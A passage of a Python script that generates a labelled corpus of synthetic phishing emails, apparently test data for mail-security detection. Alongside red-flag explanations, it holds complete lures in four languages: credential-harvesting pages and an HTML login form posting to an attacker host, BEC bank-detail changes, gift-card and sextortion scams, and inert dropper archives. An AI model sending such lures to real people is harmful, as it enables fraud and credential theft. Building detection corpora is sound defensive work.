Billing Support Team""", "plain", "utf-8", "7bit"),
      attach("Invoice_NB-40981-7724.pdf", pdf_placeholder("Invoice NB-40981-7724 (FAKE)", ["Norton 360 for Business - GBP 389.99", "Questions or cancellation: +44 20 7946 0715"]), "application/pdf")], f))

f = "11-en-fake-quarantine-digest"
_rows = [("s.maier@lieferant-gmbh.de", "Rechnung RE-2026-11033", "19/11/2026 16:02"),
         ("c.colombo@ferretti-trasporti.it", "Conferma ritiro cisterna 47/26", "19/11/2026 17:40"),
         ("hr-noreply@example.com", "2027 compensation review - personal letter", "20/11/2026 07:12")]
_tr = "".join('<tr><td style="padding:6px;border-bottom:1px solid #eee">%s</td><td style="padding:6px;border-bottom:1px solid #eee">%s</td><td style="padding:6px;border-bottom:1px solid #eee">%s</td><td style="padding:6px;border-bottom:1px solid #eee"><a href="https://example-com.mailprotect-release.net/q/rel?u=giulia.romano%%40example.com&amp;m=%s" style="color:#0067b8">Release</a></td></tr>' % (a, b, c, h(b, 12)) for a, b, c in _rows)
_h = """<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="font-family:'Segoe UI',Arial,sans-serif;font-size:14px;color:#201f1e">
<div style="max-width:640px;margin:auto;border:1px solid #e1dfdd">
<div style="padding:16px 20px;border-bottom:1px solid #e1dfdd;font-size:18px">Microsoft 365 security</div>
<div style="padding:16px 20px"><p>You have <b>3</b> new messages in quarantine for <b>giulia.romano@example.com</b>. They will be deleted automatically after 7 days.</p>
<table cellspacing="0" style="width:100%;font-size:13px"><tr style="background:#f3f2f1"><th align="left" style="padding:6px">Sender</th><th align="left" style="padding:6px">Subject</th><th align="left" style="padding:6px">Date</th><th></th></tr>""" + _tr + """</table>
<p><a href="https://example-com.mailprotect-release.net/q/review?u=giulia.romano%40example.com" style="background:#0067b8;color:#fff;padding:8px 14px;text-decoration:none">Review messages</a></p>
<p style="font-size:12px;color:#605e5c">This notification was generated by your organization's email protection. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p></div></div></body></html>"""
M(infra=vps(f, "91.215.85.144", "mail.mailprotect-release.net", mailer=None, dom="mailprotect-release.net"),
  file=f, half="attack", lang="en", cs="UTF-8 / base64, HTML-only",
  desc="Fake Microsoft 365 quarantine digest listing held mails from real partners (Lieferant, Ferretti) and an HR letter, with 'Release' links",
  why="Credential phishing: all links go to example-com.mailprotect-release.net; lures built from real correspondent names; sender domain unrelated to Microsoft or example.com; sent from a bullet-proof-hosting VPS",
  frm=("Quarantine - example.com", "quarantine@mailprotect-release.net"), to=[S["giulia"]],
  subject="You have 3 new messages in quarantine", date=dt("2026-11-20 07:45:03"),
  body=text(_h, "html", "utf-8", "base64"))

f = "12-en-docusign-svg-attachment"
_svg = """<?xml version="1.0" encoding="UTF-8"?>
<!-- INERT TEST SAMPLE: phishing SVG. Real samples embed script; this one only carries a link. -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="360" viewBox="0 0 600 360">
<rect width="600" height="360" fill="#f4f4f4"/>
<rect x="40" y="30" width="520" height="300" fill="#fff" stroke="#ccc"/>
<text x="70" y="80" font-family="Arial" font-size="20" fill="#333">Supply_Agreement_2027_ExampleGroup.pdf</text>
<text x="70" y="115" font-family="Arial" font-size="14" fill="#666">Ashworth Skincare Ltd sent you a document to review and sign.</text>
<a xlink:href="https://ashworth-skincare.docs-review.cc/env/7f3a9c?rcpt=francesca.greco%40examplegroup.eu" target="_blank">
<rect x="70" y="150" width="200" height="44" fill="#ffc820"/>
<text x="105" y="178" font-family="Arial" font-size="16" fill="#000">REVIEW DOCUMENT</text></a>
</svg>"""
M(infra=sendgrid(f, "ashworth-contracts.com", n=88),
  file=f, half="attack", lang="en", cs="UTF-8 / QP + SVG attachment",
  desc="'Please DocuSign' supply agreement from a UK cosmetics customer, document delivered as SVG image with a 'Review document' link",
  why="SVG-attachment phishing: vector image with embedded hyperlink to ashworth-skincare.docs-review.cc; DocuSign branding but not sent from docusign.net; abused SendGrid account",
  frm=("Rachel Hughes via DocuSign", "dse@ashworth-contracts.com"), to=[S["francesca"]],
  subject="Please DocuSign: Supply_Agreement_2027_ExampleGroup.pdf", date=dt("2026-11-12 12:18:36", "GMT"),
  body=mixed([text("""Rachel Hughes sent you a document to review and sign.

Supply_Agreement_2027_ExampleGroup.pdf

Hi Francesca,
As discussed, please find the 2027 supply agreement for the emollients and
preservatives range attached. The signing envelope is in the attached
document preview. Please review and sign by Friday so we can release the
January call-offs.

Thanks,
Rachel Hughes
Procurement Manager, Ashworth Skincare Ltd

Do Not Share This Email
This email contains a secure link to DocuSign. Please do not share this
email, link, or access code with others.""", "plain", "utf-8", "quoted-printable"),
      attach("Supply_Agreement_2027_ExampleGroup.svg", _svg.encode("utf-8"), "image/svg+xml")], f))

f = "13-en-device-code-teams-compromised-haulier"
M(infra=m365(f, "northwaytankers.co.uk", "ADR tanker capacity 2027 - rate card review", "en-GB", n=1877),
  file=f, half="attack", lang="en", cs="UTF-8 / QP, multipart/alternative",
  desc="Teams meeting invitation from a genuine UK ADR haulier mailbox asking to 'join as guest' by entering a code at microsoft.com/devicelogin",
  why="Device-code phishing (OAuth device authorization grant abuse): the only link is the genuine Microsoft device-login page, the code HQ7K-MX2P is generated by the attacker so the victim signs the attacker in; compromised genuine sender northwaytankers.co.uk, unusual for a haulier to send the CFO a code",
  frm=("Marcus Reid", "m.reid@northwaytankers.co.uk"), to=[S["sabine"]],
  subject="Teams meeting: ADR tanker capacity 2027 - rate card review", date=dt("2026-11-25 10:12:19", "GMT"),
  body=alt("""Hi Sabine,

Ahead of our call with James about the 2027 rate card for the ADR tanker capacity, I have set up a Teams session for today 11:30 UK time (12:30 CET).

Our IT has switched external meetings to verified guest access, so please join as follows:

1. Open https://microsoft.com/devicelogin
2. Enter the meeting code: HQ7K-MX2P
3. Sign in with your Example Group account to be admitted to the lobby

The code is valid for 15 minutes, so best to do this just before we start. If it expires, let me know and I'll send a new one.

Kind regards,
Marcus Reid
Commercial Director
Northway Tankers Ltd | Unit 4, Gorsey Lane, Widnes WA8 0RP
T +44 151 420 7781""", seed=f))

f = "14-en-sextortion-spoofed-self-btc"
M(infra=vps(f, "113.161.72.14", "static.vnpt.vn", helo="[113.161.72.14]", mailer=None),
  file=f, half="attack", lang="en", cs="UTF-8 / base64",
  desc="Sextortion: 'I have access to your device', From and To both the recipient's own address, demands USD 1,450 in bitcoin",
  why="Extortion: spoofed self-sender with foreign Return-Path and Vietnamese residential IP, valid bech32 bitcoin address %s, 48-hour deadline" % BTC_EN,
  frm=("", "nikos.papadopoulos@example.com"), to=[("", "nikos.papadopoulos@example.com")],
  return_path="info@thanhdat-packaging.vn",
  subject="nikos.papadopoulos", date=dt("2026-11-08 03:27:51", "ICT"),
  body=text("""Hello,

I will get straight to the point. A few months ago I gained access to your
devices through a driver update you installed. Since then I have been
monitoring your activity, including the websites you visit late at night.

I recorded you through your webcam while you were watching them, and I put
the recording side by side with what was on your screen. I also have your
contacts from e-mail and messengers.

You can stop this with one payment of USD 1450 in Bitcoin to:

%s

You have 48 hours from opening this message. I receive a notification when
you read it. After payment I will delete everything and you will not hear
from me again. If I do not receive it, the video goes to your colleagues and
family.

Do not reply to this e-mail, it is sent from your own account.""" % BTC_EN, "plain", "utf-8", "base64"))

f = "15-en-echa-reach-it-lookalike"
M(infra=vps(f, "45.88.107.22", "mail.echa-europa.eu", mailer=None, dom="echa-europa.eu"),
  file=f, half="attack", lang="en", cs="UTF-8 / QP, multipart/alternative",
  desc="'ECHA REACH-IT' notice: accounts must migrate to EU Login with MFA by 27 Nov or dossier updates are blocked",
  why="Credential phishing from look-alike domain echa-europa.eu (real: echa.europa.eu); link to reach-it.echa-europa.eu; deadline tied to CLP revision updates; sender IP unrelated to EU infrastructure",
  frm=("ECHA REACH-IT", "reach-it@echa-europa.eu"), to=[S["petra"]],
  subject="REACH-IT: migration to EU Login with mandatory MFA - action required by 27 November 2026", date=dt("2026-11-13 14:02:33"),
  body=alt("""Dear REACH-IT user,

As announced in the ECHA Weekly, REACH-IT accounts are being migrated to EU Login with mandatory multi-factor authentication. Your account for the legal entity

Example Group GmbH (UUID ECHA-7f2c91d0-4a1e-4b6f-9d33-0c1a8e55b2f7)

has not been migrated yet. After 27 November 2026 non-migrated accounts will be suspended. Pending dossier updates, including updates required under the revised CLP Regulation (EU) 2024/2865, cannot be submitted while the account is suspended.

To migrate, sign in once with your current REACH-IT credentials and register your authentication device:
https://reach-it.echa-europa.eu/reach-it/login?migrate=1

The migration takes about 3 minutes.

Kind regards,
REACH-IT Helpdesk
European Chemicals Agency
Telakkakatu 6, P.O. Box 400, FI-00121 Helsinki""", seed=f))

f = "16-en-rfq-zip-dropper-compromised-trader"
M(infra=cpanel(f, "cp14.hostinger-my.net", "103.6.196.54", "sinarchem-trading.com.my", "175.139.22.96"),
  file=f, half="attack", lang="en", cs="US-ASCII / 7bit + ZIP",
  desc="Request for quotation for TiO2 from a Malaysian trading company, specs in a ZIP",
  why="Malware dropper: ZIP contains 'RFQ_TiO2_R996_specs.pdf.js' (double extension, inert placeholder), sent from a compromised genuine trader mailbox; classic RFQ lure aimed at sales",
  frm=("Lim Wei Ming", "purchasing@sinarchem-trading.com.my"), to=[S["james"]],
  subject="RFQ: Titanium Dioxide Rutile R-996 / 2 x 20ft FCL CIF Port Klang", date=dt("2026-11-09 11:48:20", "WIB"),
  body=mixed([text("""Dear Sir,

Good day to you.

We are a trading company for paint and coating raw materials in Malaysia and
got your contact from the European distributor list. Kindly quote your best
price for the following:

1. Titanium Dioxide Rutile (R-996 or equivalent) - 2 x 20ft FCL
2. Packing: 25kg bags on pallets
3. Delivery: CIF Port Klang, January 2027 shipment
4. Payment: T/T 30% advance, balance against BL copy

Detailed specification, quantity breakdown and our company profile are in
the attached file. Please also advise lead time and whether you can supply
COA and MSDS with each lot.

Looking forward to your soonest reply.

Best regards,
Lim Wei Ming
Purchasing Executive
Sinar Chem Trading Sdn Bhd
Lot 12, Jalan Perusahaan 4, 41050 Klang, Selangor, Malaysia""", "plain", "us-ascii", "7bit"),
      attach("RFQ_TiO2_R996_SINAR-2611.zip", zip_bytes([("RFQ_TiO2_R996_specs.pdf.js", ("// " + INERT).encode())]), "application/zip")], f))

f = "17-en-maersk-draft-bl-html-attachment"
_att = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>Maersk | Draft Bill of Lading</title>
<style>body{font-family:Arial;background:#f7f7f7}.b{width:400px;margin:60px auto;background:#fff;padding:26px;box-shadow:0 1px 4px #aaa}
input{width:100%;padding:9px;margin:6px 0 12px}button{width:100%;background:#42b0d5;color:#fff;border:0;padding:10px}</style></head>
<body><div class="b"><h2 style="color:#42b0d5">MAERSK</h2><p>Booking <b>264819373</b> - Draft BL is protected. Sign in with your business e-mail to view and approve.</p>
<!-- INERT TEST SAMPLE: credential-harvesting form -->
<form method="post" action="https://mymaersk-docview.pages.dev/api/auth">
<input name="email" value="agnieszka.kowalczyk@example.com"><input name="password" type="password" placeholder="Password">
<button>View document</button></form></div></body></html>"""
M(infra=vps(f, "194.26.29.113", "hosted-by.pfcloud.io", helo="mail.maersk-docs.com", mailer="Microsoft Outlook 16.0", dom="maersk-docs.com"),
  file=f, half="attack", lang="en", cs="UTF-8 / QP + HTML attachment",
  desc="'Maersk documentation' asks to approve a draft Bill of Lading for an ISO tank before VGM cut-off; BL delivered as HTML",
  why="Credential phishing via HTML attachment posting to mymaersk-docview.pages.dev; sender domain maersk-docs.com is not Maersk; VPS sender with forged Outlook X-Mailer; time pressure (cut-off)",
  frm=("Maersk Documentation Desk", "documentation@maersk-docs.com"), to=[S["agnieszka"]],
  subject="Draft BL for approval - Booking 264819373 / ISO tank / VGM cut-off 27.11", date=dt("2026-11-26 08:55:10"),
  body=mixed([text("""Dear Customer,

Please find attached the draft Bill of Lading for booking 264819373
(1 x 20' ISO tank, UN 1263 Paint related material, Gdansk - Piraeus).

Kindly check shipper/consignee details, the dangerous goods description and
the number of originals, and approve the draft before the VGM cut-off on
27.11.2026 12:00. Amendments after cut-off are subject to a correction fee
of EUR 75.

Best regards,
Documentation Desk
Maersk A/S""", "plain", "utf-8", "quoted-printable"),
      attach("Draft_BL_264819373.html", _att.encode("utf-8"), "text/html")], f))

# =================================================================== ATTACK: Italian
f = "18-it-ferretti-iban-change-gmail"
M(infra=gmail(f, 167),
  file=f, half="attack", lang="it", cs="ISO-8859-15 / QP",
  desc="'Ferretti Trasporti amministrazione' from a Gmail address: account restricted due to a tax audit, pay all invoices to a new FinecoBank IBAN",
  why="BEC / supplier bank-detail change from a free mailer (real: amministrazione@ferretti-trasporti.it), new IBAN %s, 'mail server in maintenance' excuse, asks for confirmation by reply only" % ACC["x_ferr"],
  frm=("Ferretti Trasporti S.p.A. - Amministrazione", "amministrazione.ferrettitrasporti@gmail.com"), to=[S["marco"]],
  subject="Comunicazione variazione coordinate bancarie", date=dt("2026-11-11 12:07:26"), hcs="iso-8859-15",
  body=text("""Gentile Cliente,

con la presente Vi comunichiamo che, a seguito di una verifica fiscale in
corso, il nostro conto corrente presso Intesa Sanpaolo è temporaneamente
sottoposto a restrizioni operative. Vi preghiamo pertanto di effettuare tutti
i pagamenti, comprese le fatture già emesse e in scadenza, sulle seguenti
coordinate:

Intestatario: Ferretti Trasporti S.p.A.
Banca: FinecoBank S.p.A.
IBAN: %s
BIC/SWIFT: FEBIITM1

Vi chiediamo cortesemente di confermare la ricezione rispondendo a questa
e-mail. Per qualsiasi comunicazione utilizzate temporaneamente questo
indirizzo, in quanto il nostro server di posta è in manutenzione.

Ci scusiamo per il disagio e restiamo a disposizione.

Distinti saluti

Ufficio Amministrazione
Ferretti Trasporti S.p.A.
Via dell'Industria 24 - 28100 Novara""" % fmt_iban(ACC["x_ferr"]), "plain", "iso-8859-15", "quoted-printable"))

f = "19-it-fake-sdi-scarto-zip"
M(infra=aruba(f, client_ip="41.216.188.45", n=94),
  file=f, half="attack", lang="it", cs="ISO-8859-1 / base64 + ZIP",
  desc="'Agenzia delle Entrate - Sistema di Interscambio' rejection notice for an e-invoice with the notice 'in the attached archive'",
  why="Malware dropper: ZIP with 'Notifica_Scarto_1849302211.pdf.lnk' (inert placeholder); SdI never sends ZIPs by ordinary mail; sent from a compromised accounting-firm mailbox via Aruba with a Nigerian client IP",
  frm=("Agenzia delle Entrate - Sistema di Interscambio", "info@studiomarelli-commercialisti.it"), to=[S["giulia"]],
  subject="Notifica di scarto - File IT%s_a1B2c.xml.p7m - Identificativo SdI 1849302211" % PIVA_EG, date=dt("2026-11-16 09:14:52"), hcs="iso-8859-1", henc="Q",
  body=mixed([text("""Gentile contribuente,

la fattura elettronica trasmessa con il file IT%s_a1B2c.xml.p7m
(identificativo SdI 1849302211) è stata scartata dal Sistema di
Interscambio per il seguente motivo:

Codice errore 00311 - Codice destinatario non valido

La fattura si considera non emessa. Per evitare sanzioni ai sensi dell'art. 6
del D.Lgs. 471/97 è necessario ritrasmettere il documento entro 5 giorni.

In allegato la ricevuta di scarto e il file originale.

Cordiali saluti
Agenzia delle Entrate
Sistema di Interscambio""" % PIVA_EG, "plain", "iso-8859-1", "base64"),
      attach("Notifica_Scarto_1849302211.zip", zip_bytes([("Notifica_Scarto_1849302211.pdf.lnk", INERT.encode())]), "application/x-zip-compressed")], f))

f = "20-it-gift-card-ceo-gmail"
M(infra=gmail(f, 29),
  file=f, half="attack", lang="it", cs="UTF-8 / 8bit",
  desc="'Klaus' from a Gmail address asks the Italian country manager to discreetly buy ten Amazon gift cards and send photos of the codes",
  why="Gift-card CEO fraud: free mailer with CEO display name, secrecy and 'in a meeting, can't call', request for gift-card codes",
  frm=("Klaus Hoffmann", "klaus.hoffmann.ceo@gmail.com"), to=[S["giulia"]],
  subject="Richiesta veloce", date=dt("2026-12-01 10:41:09"),
  body=text("""Ciao Giulia,

sei in ufficio? Ho bisogno di un favore urgente, ma con discrezione. Sono in
riunione con il Beirat tutto il giorno e non posso telefonare.

Vorrei fare una sorpresa di Natale a cinque clienti italiani importanti. Mi
servono 10 carte regalo Amazon da 100 EUR ciascuna. Puoi comprarle oggi
(anche online o in tabaccheria)? Poi grattale e mandami qui le foto dei
codici, li invio io personalmente con un biglietto.

Ti rimborsiamo tutto con la nota spese di dicembre, ne parlo io con Sabine.
Non dire niente agli altri, è una sorpresa.

Grazie mille
Klaus

Inviato da iPhone""", "plain", "utf-8", "8bit"))

f = "21-it-fake-aruba-pec-full"
_h = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-15"></head>
<body style="font-family:Arial,sans-serif;font-size:14px;color:#333">
<table width="600" align="center" style="border:1px solid #ddd"><tr><td style="background:#ef7d00;padding:14px;color:#fff;font-size:20px"><b>Aruba</b>PEC</td></tr>
<tr><td style="padding:20px">
<p>Gentile Cliente,</p>
<p>la casella di Posta Elettronica Certificata <b>exampleitalia@pec.it</b> ha raggiunto il <b>98%</b> dello spazio disponibile. Le PEC in arrivo, comprese le notifiche dell'Agenzia delle Entrate e del SdI, potrebbero non essere consegnate e verranno restituite al mittente.</p>
<p>Per liberare spazio è possibile attivare gratuitamente l'archiviazione automatica dei messaggi più vecchi di 12 mesi. L'operazione richiede l'accesso alla Webmail PEC.</p>
<p style="text-align:center"><a href="https://webmail-pec.arubaservizi-area.it/login?box=exampleitalia" style="background:#ef7d00;color:#fff;padding:10px 22px;text-decoration:none">Attiva archiviazione</a></p>
<p>Cordiali saluti,<br>Il team Aruba PEC</p>
<p style="font-size:11px;color:#888">Aruba S.p.A. - Via San Clemente 53, 24036 Ponte San Pietro (BG) - P.IVA 01573850516</p>
</td></tr></table></body></html>"""
M(infra=sendgrid(f, "arubaservizi-area.it", n=31),
  file=f, half="attack", lang="it", cs="ISO-8859-15 / QP, HTML-only",
  desc="'Aruba PEC' quota warning: certified mailbox 98% full, log in to activate free archiving",
  why="Credential phishing for the PEC mailbox (legally binding e-mail): link to webmail-pec.arubaservizi-area.it, brand impersonation, sent through abused SendGrid; threat that tax notifications will bounce",
  frm=("Aruba PEC", "avvisi@arubaservizi-area.it"), to=[S["marco"]],
  subject="Avviso: la casella PEC exampleitalia@pec.it ha raggiunto il 98% dello spazio", date=dt("2026-11-23 06:58:40"), hcs="iso-8859-15",
  body=text(_h, "html", "iso-8859-15", "quoted-printable"))

f = "22-it-fake-durc-inail-link"
M(infra=vps(f, "5.252.176.19", "vps-5-252-176-19.rdns.pq.hosting", helo="mail.durc-verifiche.it", mailer=None, dom="durc-verifiche.it"),
  file=f, half="attack", lang="it", cs="UTF-8 / base64, multipart/alternative",
  desc="'INAIL - Sportello Unico Previdenziale': DURC result 'irregular', download the notice to regularise within 15 days",
  why="Malware/phishing link (download of 'avviso' from durc-verifiche.it), public-authority impersonation with a plausible procedure; throwaway domain on a VPS",
  frm=("INAIL - Sportello Unico Previdenziale", "noreply@durc-verifiche.it"), to=[S["marco"]],
  subject="Esito verifica DURC On Line: irregolarità contributiva - Prot. INAIL_48120377", date=dt("2026-12-02 08:33:17"),
  body=alt("""Spett.le EXAMPLE GROUP ITALIA S.R.L.
Codice fiscale/P.IVA %s

In esito alla verifica di regolarità contributiva (DURC On Line) richiesta da una stazione appaltante, risulta una irregolarità per il periodo di competenza 10/2026.

Protocollo: INAIL_48120377
Scadenza validità: 15 giorni dalla presente

Entro 15 giorni è possibile regolarizzare la posizione. L'invito a regolarizzare con il dettaglio degli importi è disponibile al seguente link:

https://durc-verifiche.it/inail/invito/INAIL_48120377

Trascorso il termine, sarà emesso DURC irregolare con effetti sui pagamenti da parte della Pubblica Amministrazione.

Distinti saluti
INAIL - Direzione Centrale Rapporto Assicurativo""" % PIVA_EG, "utf-8", "base64", seed=f))

# =================================================================== ATTACK: Polish
f = "23-pl-ksef-certificate-phish"
M(infra=sendgrid(f, "ksef-podatki.pl", n=57),
  file=f, half="attack", lang="pl", cs="ISO-8859-2 / QP, multipart/alternative",
  desc="'Krajowy System e-Faktur': KSeF authorisation token expires, confirm the company's certificate with Profil Zaufany",
  why="Credential phishing for the mandatory Polish e-invoicing system: link to ksef-podatki.pl (real: ksef.podatki.gov.pl), plausible hook (tokens replaced by KSeF certificates), sent via abused SendGrid",
  frm=("Krajowy System e-Faktur", "powiadomienia@ksef-podatki.pl"), to=[S["piotr"]],
  subject="KSeF: wygaśnięcie tokenu uwierzytelniającego - wymagane potwierdzenie certyfikatu", date=dt("2026-11-09 08:04:11"), hcs="iso-8859-2",
  body=alt("""Szanowni Państwo,

zgodnie z komunikatem Ministerstwa Finansów tokeny uwierzytelniające w Krajowym Systemie e-Faktur tracą ważność z dniem 31 grudnia 2026 r. i zostają zastąpione certyfikatami KSeF.

Dla podmiotu EXAMPLE GROUP POLSKA SP. Z O.O. (NIP %s) nie wygenerowano jeszcze certyfikatu uwierzytelniającego. Po tym terminie wystawianie i odbieranie faktur ustrukturyzowanych nie będzie możliwe, co może skutkować sankcjami z art. 106ni ustawy o VAT.

Certyfikat można wygenerować w Module Certyfikatów i Uprawnień po zalogowaniu Profilem Zaufanym lub podpisem kwalifikowanym:

https://ksef-podatki.pl/mcu/certyfikat?nip=%s

Z poważaniem
Zespół Krajowego Systemu e-Faktur
Ministerstwo Finansów""" % (NIP_EG, NIP_EG), "iso-8859-2", "quoted-printable", seed=f))

f = "24-pl-partner-logistik-lookalike-account-change"
M(infra=dict(helo="sender4-op-o52.zoho.eu", rdns="sender4-op-o52.zoho.eu", ip="136.143.169.52", inner=[],
             msgid="<%s.%s@zoho.eu>" % (h(f, 13, "0123456789"), h(f + "z", 8, "0123456789")),
             headers=[("User-Agent", "Zoho Mail"), ("X-Mailer", "Zoho Mail")]),
  file=f, half="attack", lang="pl", cs="windows-1250 / QP",
  desc="'Tadeusz Zieliński, Partner Logistik' announces a new bank account (Bank Millennium), claims it is on the VAT white list",
  why="BEC: look-alike domain partner-logistlk.pl (l instead of i) hosted at Zoho, new account %s, asks for e-mail confirmation only and to settle open invoices there" % ACC["x_partner"],
  frm=("Tadeusz Zieliński", "t.zielinski@partner-logistlk.pl"), to=[S["piotr"]], cc=[S["agnieszka"]],
  subject="Zmiana numeru rachunku bankowego - Partner Logistik sp. z o.o.", date=dt("2026-11-17 13:26:58"), hcs="windows-1250", henc="Q",
  body=text("""Dzień dobry Panie Piotrze,

uprzejmie informuję, że w związku ze zmianą banku obsługującego naszą spółkę
od dnia 20.11.2026 r. prosimy o dokonywanie płatności wyłącznie na poniższy
rachunek:

Partner Logistik sp. z o.o.
Bank Millennium S.A.
%s

Rachunek został zgłoszony do urzędu skarbowego i jest już widoczny na białej
liście podatników VAT (aktualizacja może potrwać 2-3 dni robocze). Dotychczasowy
rachunek w ING zostanie zamknięty z końcem miesiąca.

Prosimy o uregulowanie na nowy rachunek faktur FV/2026/11/0418 oraz
FV/2026/11/0433 (łącznie 41 870,50 zł). Bardzo proszę o potwierdzenie
otrzymania tej wiadomości mailowo.

Z poważaniem
Tadeusz Zieliński
Kierownik Działu Transportu ADR
Partner Logistik sp. z o.o.
ul. Obornicka 235, 60-650 Poznań
tel. +48 61 842 17 30""" % fmt_iban(ACC["x_partner"]), "plain", "windows-1250", "quoted-printable"))

f = "25-pl-payroll-diversion-o2"
M(infra=wp(f, client_ip="31.0.122.18"),
  file=f, half="attack", lang="pl", cs="windows-1250 / base64",
  desc="'Agnieszka Kowalczyk' from a private o2.pl address asks the office/HR manager to change her salary account",
  why="Payroll diversion: free-mailer impersonation of an employee, new mBank account %s, urgency before the payroll cut-off, avoids the HR form" % ACC["x_payroll_pl"],
  frm=("Agnieszka Kowalczyk", "a.kowalczyk86@o2.pl"), to=[S["katarzyna"]],
  subject="Zmiana konta do wypłaty", date=dt("2026-11-20 19:52:37"), hcs="windows-1250", henc="B",
  body=text("""Cześć Kasiu,

założyłam nowe konto w mBanku i chciałabym, żeby wypłata za listopad poszła
już na nie. Czy możesz to zmienić w systemie płacowym przed zamknięciem listy?

Nowy numer konta: %s
Właściciel: Agnieszka Kowalczyk

Piszę z prywatnej poczty, bo jestem na zwolnieniu i nie mam dostępu do
służbowego laptopa. Jak coś trzeba podpisać, to daj znać, odeślę skan.

Dzięki wielkie!
Agnieszka""" % fmt_iban(ACC["x_payroll_pl"]), "plain", "windows-1250", "base64"))

f = "26-pl-zapytanie-ofertowe-zip-lnk"
M(infra=cpanel(f, "s53.cyber-folks.pl", "195.78.67.53", "polfarb-lodz.pl", "45.131.195.12"),
  file=f, half="attack", lang="pl", cs="UTF-8 / QP + ZIP",
  desc="Purchase inquiry for epoxy resins and hardeners from a (compromised) Polish paint maker, details in a ZIP",
  why="Malware dropper: ZIP with 'Zapytanie_ofertowe_ZO-118-2026.pdf.lnk' shortcut (inert placeholder); compromised genuine mailbox on shared hosting, logged in from an unrelated foreign IP",
  frm=("Dział Zakupów POLFARB", "zakupy@polfarb-lodz.pl"), to=[S["agnieszka"]],
  subject="Zapytanie ofertowe ZO/118/2026 - żywice epoksydowe i utwardzacze", date=dt("2026-11-24 10:17:45"),
  body=mixed([text("""Dzień dobry,

w związku z planowaną produkcją na I kwartał 2027 r. zwracamy się z prośbą
o przedstawienie oferty cenowej na żywice epoksydowe (typ bisfenol A,
EEW 182-192), utwardzacze aminowe oraz rozcieńczalniki reaktywne.

Szczegółowa specyfikacja, ilości i harmonogram dostaw znajdują się
w załączonym pliku. Archiwum jest zabezpieczone hasłem: ZO2026

Termin składania ofert: 30.11.2026 r.

Z poważaniem
Dział Zakupów
POLFARB Łódź sp. z o.o.
ul. Pojezierska 93, 91-341 Łódź""", "plain", "utf-8", "quoted-printable"),
      attach("Zapytanie_ofertowe_ZO-118-2026.zip", zip_bytes([("Zapytanie_ofertowe_ZO-118-2026.pdf.lnk", INERT.encode())]), "application/zip")], f))

QR_PL = "https://ipkobiznes-aktywacja.com.pl/mtoken/a?c=PB-22817-K&u=kn"
f = "27-pl-qr-mtoken-reactivation"
_h = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-2"></head>
<body style="font-family:Arial,sans-serif;font-size:14px;color:#000;background:#f0f0f0">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="background:#003574;padding:16px 24px;color:#fff;font-size:20px">PKO Bank Polski &middot; iPKO biznes</td></tr>
<tr><td style="padding:24px;line-height:20px">
<p>Szanowna Pani,</p>
<p>w związku z aktualizacją zabezpieczeń bankowości elektronicznej dla firm, mToken w aplikacji iPKO biznes wymaga ponownej aktywacji do dnia <b>4 grudnia 2026 r.</b> Po tym terminie autoryzacja przelewów i paczek płatności nie będzie możliwa.</p>
<p>Zeskanuj poniższy kod QR aparatem telefonu, na którym masz zainstalowaną aplikację, i postępuj zgodnie z instrukcjami:</p>
<p style="text-align:center"><img src="cid:qr-%s" width="200" height="200" alt="kod QR"></p>
<p>Aktywacja zajmuje około 2 minut. Przygotuj login i hasło do iPKO biznes.</p>
<p>Z wyrazami szacunku<br>Zespół Bankowości Elektronicznej<br>PKO Bank Polski S.A.</p>
</td></tr></table></body></html>""" % h(f, 10)
M(infra=vps(f, "185.234.216.58", "mail.pkobp-powiadomienia.com.pl", mailer=None, dom="pkobp-powiadomienia.com.pl"),
  file=f, half="attack", lang="pl", cs="ISO-8859-2 / base64, HTML-only, multipart/related + QR PNG",
  desc="'PKO Bank Polski iPKO biznes': mToken must be re-activated by scanning a QR code",
  why="Quishing: decodable QR code with %s (attacker), bank impersonation from pkobp-powiadomienia.com.pl on a VPS; asks for login and password on the phone" % QR_PL,
  frm=("PKO Bank Polski", "powiadomienia@pkobp-powiadomienia.com.pl"), to=[S["katarzyna"]],
  subject="iPKO biznes: wymagana ponowna aktywacja mTokena", date=dt("2026-11-30 07:21:30"), hcs="iso-8859-2",
  qr=QR_PL,
  body=related(text(_h, "html", "iso-8859-2", "base64"), [attach("kod.png", qr_png(QR_PL), "image/png", inline=True, cid="qr-" + h(f, 10))], f))

# =================================================================== ATTACK: Spanish
f = "28-es-fake-aeat-verifactu-notification"
M(infra=vps(f, "77.83.247.120", "mail.sede-aeat-notifica.es", mailer=None, dom="sede-aeat-notifica.es"),
  file=f, half="attack", lang="es", cs="ISO-8859-1 / QP, multipart/alternative",
  desc="'Agencia Tributaria' notice of an electronic notification (VERI*FACTU information request) with a link to 'consult' it",
  why="Phishing/malware link to sede-aeat-notifica.es (real: sede.agenciatributaria.gob.es, notices via DEHú), tax-authority impersonation on the topical invoicing-software rules, VPS sender",
  frm=("Agencia Tributaria", "avisos@sede-aeat-notifica.es"), to=[S["lucia"]],
  subject="Aviso de notificación: requerimiento VERI*FACTU - Ref. 2026GRC4471180", date=dt("2026-11-10 09:47:22"), hcs="iso-8859-1",
  body=alt("""Estimado contribuyente:

Le comunicamos que tiene a su disposición una notificación en la Sede Electrónica de la Agencia Tributaria:

Procedimiento: Requerimiento de información - Sistemas informáticos de facturación (VERI*FACTU)
Referencia: 2026GRC4471180
Titular: EXAMPLE GROUP IBERIA S.L. - B55123456

Dispone de un plazo de 10 días naturales para acceder a su contenido. Transcurrido dicho plazo sin que se haya accedido, la notificación se entenderá rechazada y se dará por efectuado el trámite, continuándose el procedimiento.

Puede consultar y descargar la notificación en el siguiente enlace:
https://sede-aeat-notifica.es/notificaciones/consulta?ref=2026GRC4471180

Atentamente,
Agencia Estatal de Administración Tributaria""", "iso-8859-1", "quoted-printable", seed=f))

f = "29-es-ceo-fraud-lookalike-exarnple"
M(infra=vps(f, "45.144.30.87", "mail.exarnple.com", mailer="Microsoft Outlook 16.0", dom="exarnple.com"),
  file=f, half="attack", lang="es", cs="UTF-8 / QP",
  desc="'Klaus Hoffmann' asks Spanish accounting to make a confidential EUR 48,600 transfer to a Lithuanian account for an acquisition deposit",
